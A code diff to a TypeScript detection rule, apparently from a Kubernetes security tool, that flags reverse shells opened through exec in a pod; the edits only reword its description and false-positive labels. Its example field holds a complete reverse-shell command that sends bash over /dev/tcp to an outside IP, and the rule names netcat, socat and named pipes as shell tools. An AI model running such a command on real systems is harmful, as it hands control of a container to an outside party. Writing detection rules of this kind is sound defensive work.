@@ -7,8 +7,8 @@ import { reverseShellIn } from '../reverse-shell.ts';
 export const execReverseShell = callRule({
   id: 'exec-reverse-shell',
   title: 'Reverse shell started in a pod',
-  sees: 'An exec whose command ties a shell to a connection: /dev/tcp, netcat -e, socat, a named pipe, or the sockets of a scripting language. Probes of the own host are none; probes of another host and terminals without a connection count for less.',
-  why: 'There is no ordinary reason for it: somebody elsewhere now gives the orders in this container.',
+  sees: 'An exec whose command connects a shell to a network connection: /dev/tcp, netcat -e, socat, a named pipe, or the sockets of a scripting language. Probes of the host itself do not count; probes of another host, and terminals without a connection, count for less.',
+  why: 'It has no ordinary use: somebody elsewhere now controls this container.',
   technique: [
     { id: 'T1059.004', name: 'Command and Scripting Interpreter: Unix Shell' },
     { id: 'T1095', name: 'Non-Application Layer Protocol' },
@@ -17,7 +17,7 @@ export const execReverseShell = callRule({
   confidence: 0.9,
   family: 'exec',
   conclusive: true,
-  falsePositives: ['Security training and capture-the-flag environments', 'Exercises of a red team'],
+  falsePositives: ['Security training and capture-the-flag environments', 'Red team exercises'],
   calls: EXECS,
   example: "kubectl exec -n shop cart-7d9f -- bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
   match: (signal) => {
